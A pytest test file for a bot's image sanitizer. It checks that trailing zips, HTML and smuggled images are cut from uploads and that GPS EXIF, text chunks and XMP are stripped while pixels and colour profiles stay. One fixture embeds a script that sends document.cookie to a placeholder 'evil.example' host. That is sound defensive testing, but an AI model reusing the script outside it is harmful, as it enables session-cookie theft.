"""Only the picture leaves the bot: nothing appended after an image's end, no metadata but colour."""

from __future__ import annotations

import io
import random
import struct
import zipfile

import pytest
from PIL import ExifTags, Image, ImageChops, PngImagePlugin

from bot.domain.images import prepare_image
from tests.domain.test_image_bytes import handmade_tiff

TRAILING_NOTE = "data after the end of the image was left out"
GPS_LATITUDE = (48.0, 51.0, 29.0)


def encode(image: Image.Image, fmt: str, **options: object) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, fmt, **options)
    return buffer.getvalue()


def picture(mode: str = "RGB") -> Image.Image:
    """A picture with detail, so that a re-encode or a wrong crop would show in the pixels."""
    image = Image.frombytes("RGB", (480, 360), random.Random(5).randbytes(480 * 360 * 3))
    return image.convert(mode) if mode != "RGB" else image


def a_zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("payload.exe", b"MZ" + b"\x90" * 64)
    return buffer.getvalue()


HTML = b"<html><body><script>fetch('https://evil.example/?c='+document.cookie)</script></body></html>"


def pixels_of(data: bytes) -> Image.Image:
    image = Image.open(io.BytesIO(data))
    image.load()
    return image


def same_pixels(one: bytes, other: bytes) -> bool:
    first, second = pixels_of(one), pixels_of(other)
    if first.size != second.size or first.mode != second.mode:
        return False
    return ImageChops.difference(first.convert("RGB"), second.convert("RGB")).getbbox() is None


def gps_exif(orientation: int) -> bytes:
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = orientation
    exif[ExifTags.Base.Make] = "PhoneCorp"
    exif.get_ifd(ExifTags.IFD.GPSInfo)[ExifTags.GPS.GPSLatitude] = GPS_LATITUDE
    exif.get_ifd(ExifTags.IFD.GPSInfo)[ExifTags.GPS.GPSLatitudeRef] = "N"
    return exif.tobytes()


# --- data appended after the image's end ----------------------------------------------------------------


@pytest.mark.parametrize(
    ("fmt", "mode", "payload"),
    [
        ("JPEG", "RGB", a_zip()),
        ("PNG", "RGB", HTML),
        ("GIF", "P", b"GIF payload " + a_zip()),
        ("WEBP", "RGB", b"\x00\x01trailing bytes after the RIFF container" + HTML),
        ("BMP", "RGB", a_zip()),
        ("TIFF", "RGB", a_zip()),
    ],
    ids=["jpeg+zip", "png+html", "gif+payload", "webp+trailing", "bmp+zip", "tiff+zip"],
)
def test_whatever_follows_the_images_end_is_cut_and_the_image_is_otherwise_as_sent(
    fmt: str, mode: str, payload: bytes
) -> None:
    image = encode(picture(mode), fmt, **({"lossless": True} if fmt == "WEBP" else {}))

    prepared = prepare_image(image + payload)

    assert prepared.data == image  # the image as sent, minus the tail
    assert (
        payload not in prepared.data and b"PK\x03\x04" not in prepared.data and b"<html" not in prepared.data
    )
    assert same_pixels(prepared.data, image)
    assert prepared.info.format == fmt
    assert prepared.info.size_bytes == len(image)
    assert prepared.info.notes == (TRAILING_NOTE,)


def test_a_multi_picture_jpeg_keeps_its_pictures_but_loses_what_follows_them() -> None:
    mpo = encode(picture(), "MPO", save_all=True, append_images=[Image.new("RGB", (480, 360))])

    prepared = prepare_image(mpo + a_zip())

    assert prepared.data == mpo
    assert prepared.info.notes == (TRAILING_NOTE,)


def test_a_jpeg_hidden_after_a_jpeg_is_cut_too() -> None:
    image = encode(picture(), "JPEG")
    smuggled = encode(Image.new("RGB", (400, 400), "red"), "JPEG")

    assert prepare_image(image + smuggled).data == image


def test_an_image_that_must_be_re_encoded_carries_no_payload_either() -> None:
    frames = [Image.new("RGB", (480, 360), colour) for colour in ("red", "blue")]
    animated = encode(frames[0], "GIF", save_all=True, append_images=frames[1:], comment=b"hidden note")

    prepared = prepare_image(animated + HTML)

    assert prepared.info.format == "PNG"
    assert b"<html" not in prepared.data and b"hidden note" not in prepared.data
    assert pixels_of(prepared.data).convert("RGB").getpixel((10, 10)) == (255, 0, 0)


# --- metadata ---------------------------------------------------------------------------------------------


def test_an_upright_jpegs_gps_exif_is_removed_and_its_pixels_and_colour_profile_kept() -> None:
    icc = b"\x00" * 128 + b"fake but well-placed profile"
    image = encode(picture(), "JPEG", exif=gps_exif(1), icc_profile=icc, comment=b"taken at home")

    prepared = prepare_image(image)

    sent = pixels_of(prepared.data)
    assert len(sent.getexif()) == 0
    assert b"PhoneCorp" not in prepared.data and b"taken at home" not in prepared.data
    assert sent.info.get("icc_profile") == icc
    assert same_pixels(prepared.data, image)
    assert prepared.info.notes == ()
    assert prepared.info.size_bytes == len(prepared.data) < len(image)


def test_a_turned_jpegs_gps_exif_is_removed_while_its_orientation_is_applied() -> None:
    stored = Image.new("RGB", (400, 800), "blue")
    stored.paste(Image.new("RGB", (400, 400), "red"), (0, 0))
    image = encode(stored, "JPEG", exif=gps_exif(6))

    prepared = prepare_image(image)

    sent = pixels_of(prepared.data)
    assert sent.size == (800, 400)
    assert len(sent.getexif()) == 0  # neither the GPS position nor an orientation left to apply twice
    assert b"PhoneCorp" not in prepared.data
    right = sent.getpixel((700, 200))
    assert isinstance(right, tuple) and right[0] > 200 > right[2]  # the stored top (red) is now on the right


def test_a_pngs_text_chunks_and_exif_are_removed_and_its_colour_chunks_kept() -> None:
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "my home address is 1 Main Street")
    info.add_itxt("XML:com.adobe.xmp", "<x:xmpmeta>GPS</x:xmpmeta>")
    exif = Image.Exif()
    exif.get_ifd(ExifTags.IFD.GPSInfo)[ExifTags.GPS.GPSLatitude] = GPS_LATITUDE
    image = encode(picture(), "PNG", pnginfo=info, exif=exif.tobytes(), icc_profile=b"\x00" * 200)

    prepared = prepare_image(image)

    for chunk in (b"tEXt", b"iTXt", b"eXIf", b"Main Street", b"xmpmeta"):
        assert chunk not in prepared.data
    assert b"iCCP" in prepared.data
    assert same_pixels(prepared.data, image)


def test_a_webps_exif_and_xmp_are_removed_and_its_header_stops_announcing_them() -> None:
    image = encode(picture(), "WEBP", lossless=True, exif=gps_exif(1), xmp=b"<x:xmpmeta>secret</x:xmpmeta>")
    assert b"EXIF" in image and b"XMP " in image

    prepared = prepare_image(image)

    assert b"EXIF" not in prepared.data and b"XMP " not in prepared.data and b"secret" not in prepared.data
    (riff_size,) = struct.unpack("<I", prepared.data[4:8])
    assert riff_size == len(prepared.data) - 8
    vp8x_flags = prepared.data[20]
    assert vp8x_flags & 0x0C == 0
    assert same_pixels(prepared.data, image)


def test_a_tiff_with_metadata_tags_is_re_encoded_without_them() -> None:
    image = encode(picture(), "TIFF", description="GPS 48.85N 2.35E, home")

    prepared = prepare_image(image)

    assert prepared.info.format == "PNG"
    assert b"home" not in prepared.data
    assert same_pixels(prepared.data, encode(picture(), "PNG"))
    assert prepared.info.notes == (
        "re-encoded to leave out metadata or data that is not part of the picture",
    )


def test_a_re_encoded_jpeg_does_not_inherit_the_comment_of_its_source() -> None:
    cmyk = encode(Image.new("CMYK", (480, 360), (0, 255, 255, 0)), "JPEG", comment=b"sent from my phone")

    prepared = prepare_image(cmyk)

    assert prepared.info.notes == ("converted from CMYK to RGB",)
    assert b"sent from my phone" not in prepared.data


def test_a_tiff_hiding_bytes_inside_is_re_encoded_from_its_pixels() -> None:
    smuggling = handmade_tiff(b"PK\x03\x04" + b"payload" * 20)

    prepared = prepare_image(smuggling)

    assert prepared.info.format == "PNG"
    assert b"payload" not in prepared.data
    assert same_pixels(prepared.data, encode(pixels_of(smuggling), "PNG"))
